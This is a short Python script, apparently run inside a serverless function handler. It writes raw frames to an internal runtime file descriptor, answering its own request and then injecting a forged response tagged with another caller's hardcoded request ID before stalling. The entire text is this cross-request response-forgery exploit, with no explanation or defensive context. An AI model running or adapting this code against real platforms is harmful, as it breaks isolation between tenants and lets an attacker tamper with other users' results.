# Pieces of an answer to a call that somebody else made.
import os
import struct
import time

me = context.aws_request_id.encode()
other = b"0199f2c1-0000-7000-8000-000000000001"
os.write(3, struct.pack("<IB3x", 38, 22) + me + b"{}")
os.write(3, struct.pack("<IB3x", 42, 23) + other + b"forged")
time.sleep(9999)
